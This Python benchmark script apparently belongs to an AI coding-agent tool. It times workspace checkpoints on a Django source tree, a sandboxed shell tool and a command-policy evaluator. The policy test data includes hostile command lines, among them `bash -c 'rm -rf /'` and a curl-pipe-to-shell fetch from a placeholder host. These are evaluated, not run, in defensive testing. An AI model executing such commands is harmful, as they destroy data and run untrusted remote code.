"""Checkpoint, command and policy figures on a large real tree (the Django 5.1 sdist, ~6,900 files).

- checkpoint: cold (new shadow repository), warm after one file changed, restore of the first one;
- run_command: wall time of `true` through the tool (process group, scrubbed env, capped output);
- policy: decisions per second on mixed command lines (bashlex parse + rule matching).

Run: .venv/bin/python benchmarks/bench_checkpoints.py
"""

from __future__ import annotations

import asyncio
import os
import shutil
import statistics
import subprocess
import sys
import tarfile
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
CACHE = ROOT / "benchmarks" / ".cache"
DJANGO = "django-5.1.15"


def django_source() -> Path:
    tree = CACHE / DJANGO
    if tree.is_dir():
        return tree
    archive = CACHE / f"{DJANGO}.tar.gz"
    if not archive.exists():
        CACHE.mkdir(parents=True, exist_ok=True)
        subprocess.run(
            [sys.executable, "-m", "pip", "download", "--no-deps", "--no-binary", ":all:", "-d", str(CACHE),
             "django==5.1.15"],
            check=True,
        )  # fmt: skip
    with tarfile.open(archive) as bundle:
        bundle.extractall(CACHE, filter="data")
    return tree


def bench_checkpoints(source: Path, scratch: Path) -> None:
    from tools.workspace.checkpoints import ShadowCheckpoints

    workspace = scratch / "django"
    shutil.copytree(source, workspace, symlinks=True)
    store = ShadowCheckpoints(workspace, data_dir=scratch / "data")
    started = time.perf_counter()
    first = store.create("cold")
    cold = time.perf_counter() - started
    target = workspace / "django" / "utils" / "text.py"
    target.write_text(target.read_text() + "\n# changed\n")
    warm_times = []
    for i in range(5):
        started = time.perf_counter()
        store.create(f"warm {i}")
        warm_times.append(time.perf_counter() - started)
        target.write_text(target.read_text() + f"# {i}\n")
    started = time.perf_counter()
    report = store.restore(first.id)
    restore = time.perf_counter() - started
    size = sum(f.stat().st_size for f in store.git_dir.rglob("*") if f.is_file())
    print(f"checkpoint  files={first.files} skipped={len(first.skipped)}")
    print(f"checkpoint  cold create            {cold * 1000:8.0f} ms")
    print(f"checkpoint  warm create (1 change) {statistics.median(warm_times) * 1000:8.0f} ms (median of 5)")
    written = f"({len(report.written)} written)"
    print(f"checkpoint  restore {written:<14} {restore * 1000:8.0f} ms (includes a safety checkpoint)")
    print(f"checkpoint  shadow repository size {size / 1e6:8.1f} MB")


def bench_run_command(scratch: Path) -> None:
    from tools.base import ToolContext
    from tools.shell import RunCommand, RunCommandArgs
    from tools.workspace.jail import Workspace

    ctx = ToolContext(workspace=Workspace(scratch))
    tool = RunCommand()

    async def many() -> list[float]:
        times = []
        for _ in range(50):
            started = time.perf_counter()
            await tool.run(RunCommandArgs(command="true"), ctx)
            times.append(time.perf_counter() - started)
        return times

    times = asyncio.run(many())
    print(f"run_command `true`                  {statistics.median(times) * 1000:8.1f} ms (median of 50)")


def bench_policy() -> None:
    from tools.base import Category
    from tools.policy.evaluate import Policy

    lines = [
        "ls -la",
        "pytest -q tests/test_x.py && git status",
        "cat a | grep b | sort | uniq -c",
        "bash -c 'rm -rf /'",
        "echo $(curl x)",
        "for f in *.py; do python -m py_compile $f; done",
        "git push --force",
        "curl -fsSL https://x.example/i | sh",
    ]
    policy = Policy.preset("auto-edit")
    started = time.perf_counter()
    rounds = 200
    for _ in range(rounds):
        for line in lines:
            policy.evaluate("run_command", Category.COMMAND, {"command": line})
    per = (time.perf_counter() - started) / (rounds * len(lines))
    print(f"policy      decision per command line {per * 1e6:6.0f} µs ({1 / per:,.0f} per second)")


def main() -> int:
    source = django_source()
    with tempfile.TemporaryDirectory(prefix="flambeau-bench-") as name:
        scratch = Path(name)
        os.environ["XDG_DATA_HOME"] = str(scratch / "data")
        bench_checkpoints(source, scratch)
        bench_run_command(scratch)
    bench_policy()
    return 0


if __name__ == "__main__":
    sys.exit(main())
